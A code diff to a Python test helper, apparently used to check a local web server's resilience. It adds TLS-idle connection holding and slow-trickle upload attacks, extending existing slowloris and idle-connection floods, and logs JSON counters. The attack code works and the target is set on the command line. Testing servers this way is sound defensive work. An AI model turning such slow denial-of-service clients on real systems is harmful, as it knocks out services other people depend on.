@@ -3,7 +3,8 @@
 measuring client in pytest does not share its event loop or interpreter lock).
 
   hostile_clients.py --target 127.0.0.1:PORT --ca CA.crt --idle N --slowloris M
-                     [--byte-interval 2] --stats FILE
+                     [--tls-idle K] [--uploads U --upload-bytes B] [--byte-interval 2]
+                     --stats FILE
 
 - idle: N plain TCP connections that never send a byte. When the server closes one, it is opened
   again (the attack is *held*, as a persistent attacker would); closes and re-opens are counted.
@@ -11,6 +12,11 @@ measuring client in pytest does not share its event loop or interpreter lock).
   an HTTP request header one byte every --byte-interval seconds, never finishing it. Handshakes
   that do not complete within 60 s are counted as pending; connections the server closes are
   counted and opened again.
+- tls-idle: K connections that complete the TLS handshake and then send nothing, held (re-opened
+  when the server closes one, after 0.2 s).
+- uploads: U connections that each POST a body announced as B bytes (Content-Length), send all of
+  it but the last byte as fast as the server reads, then one byte per --byte-interval seconds. An
+  upload the server answers or closes is counted (503s apart) and started again after 1 s.
 Slowloris connections are opened first, then the idle ones (at most 200 connects in flight).
 Counters go to --stats as JSON every 0.5 s and at exit.
 """
@@ -20,6 +26,7 @@ import argparse
 import asyncio
 import json
 import os
+import resource
 import signal
 import ssl
 import time
@@ -40,7 +47,12 @@ class Attack:
                   "slow_handshaking": 0, "slow_open": 0, "slow_handshakes": 0,
                   "slow_handshake_timeouts": 0, "slow_handshake_errors": 0,
                   "slow_closed_by_server": 0, "slow_bytes_sent": 0,
-                  "first_slow_handshake_s": None, "last_slow_handshake_s": None}
+                  "first_slow_handshake_s": None, "last_slow_handshake_s": None,
+                  "tls_idle_open": 0, "tls_idle_opened": 0, "tls_idle_closed_by_server": 0,
+                  "tls_idle_connect_errors": 0,
+                  "uploads_open": 0, "uploads_started": 0, "upload_bytes_sent": 0,
+                  "uploads_answered_503": 0, "uploads_answered_other": 0,
+                  "uploads_closed_by_server": 0, "upload_connect_errors": 0}
         self.t0 = time.monotonic()
         self.stop = asyncio.Event()
 
@@ -110,6 +122,78 @@ class Attack:
                 self.s["slow_open"] -= 1
                 writer.transport.abort()
 
+    async def tls_idle(self):
+        while not self.stop.is_set():
+            try:
+                async with self.connect_slots:
+                    reader, writer = await asyncio.wait_for(asyncio.open_connection(
+                        self.host, self.port, ssl=self.ctx, server_hostname=self.host), 30)
+            except Exception:  # noqa: BLE001
+                self.s["tls_idle_connect_errors"] += 1
+                await asyncio.sleep(0.5)
+                continue
+            self.s["tls_idle_opened"] += 1
+            self.s["tls_idle_open"] += 1
+            try:
+                stop = asyncio.create_task(self.stop.wait())
+                read = asyncio.create_task(reader.read(1))
+                done, _ = await asyncio.wait({stop, read}, return_when=asyncio.FIRST_COMPLETED)
+                if read in done:
+                    self.s["tls_idle_closed_by_server"] += 1
+                for t in (stop, read):
+                    t.cancel()
+            except Exception:  # noqa: BLE001
+                self.s["tls_idle_closed_by_server"] += 1
+            finally:
+                self.s["tls_idle_open"] -= 1
+                writer.transport.abort()
+            await asyncio.sleep(0.2)
+
+    async def upload(self, size: int):
+        head = (b"POST /v1/webhook/validation HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+                b"Content-Type: application/json\r\nContent-Length: " + str(size).encode() +
+                b"\r\n\r\n")
+        piece = b" " * (64 * 1024)
+        while not self.stop.is_set():
+            try:
+                async with self.connect_slots:
+                    reader, writer = await asyncio.wait_for(asyncio.open_connection(
+                        self.host, self.port, ssl=self.ctx, server_hostname=self.host), 30)
+            except Exception:  # noqa: BLE001
+                self.s["upload_connect_errors"] += 1
+                await asyncio.sleep(1)
+                continue
+            self.s["uploads_started"] += 1
+            self.s["uploads_open"] += 1
+            read = asyncio.create_task(reader.read(64))
+            try:
+                writer.write(head)
+                left = size - 1
+                while left > 0 and not read.done() and not self.stop.is_set():
+                    n = min(left, len(piece))
+                    writer.write(piece[:n])
+                    await writer.drain()
+                    left -= n
+                    self.s["upload_bytes_sent"] += n
+                while not read.done() and not self.stop.is_set():
+                    await asyncio.wait({read}, timeout=self.byte_interval)
+                if read.done() and not self.stop.is_set():
+                    answer = read.result() if not read.cancelled() and read.exception() is None \
+                        else b""
+                    if answer.startswith(b"HTTP/1.1 503"):
+                        self.s["uploads_answered_503"] += 1
+                    elif answer:
+                        self.s["uploads_answered_other"] += 1
+                    else:
+                        self.s["uploads_closed_by_server"] += 1
+            except Exception:  # noqa: BLE001
+                self.s["uploads_closed_by_server"] += 1
+            finally:
+                read.cancel()
+                self.s["uploads_open"] -= 1
+                writer.transport.abort()
+            await asyncio.sleep(1)
+
     def write_stats(self):
         data = dict(self.s, pid=os.getpid(), elapsed_s=round(time.monotonic() - self.t0, 2))
         tmp = self.stats_path + ".tmp"
@@ -124,11 +208,18 @@ class Attack:
 
 
 async def main():
+    # Both ends of each connection are descriptors; the soft limit goes up to the hard one.
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < hard:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     ap = argparse.ArgumentParser()
     ap.add_argument("--target", required=True)
     ap.add_argument("--ca", required=True)
     ap.add_argument("--idle", type=int, default=0)
     ap.add_argument("--slowloris", type=int, default=0)
+    ap.add_argument("--tls-idle", type=int, default=0)
+    ap.add_argument("--uploads", type=int, default=0)
+    ap.add_argument("--upload-bytes", type=int, default=7 * 1024 * 1024)
     ap.add_argument("--byte-interval", type=float, default=2.0)
     ap.add_argument("--stats", required=True)
     args = ap.parse_args()
@@ -141,6 +232,8 @@ async def main():
     tasks += [asyncio.create_task(attack.slowloris()) for _ in range(args.slowloris)]
     await asyncio.sleep(0.5)  # slowloris connections first
     tasks += [asyncio.create_task(attack.idle()) for _ in range(args.idle)]
+    tasks += [asyncio.create_task(attack.tls_idle()) for _ in range(args.tls_idle)]
+    tasks += [asyncio.create_task(attack.upload(args.upload_bytes)) for _ in range(args.uploads)]
     await attack.stop.wait()
     await asyncio.sleep(0.2)
     for t in tasks:
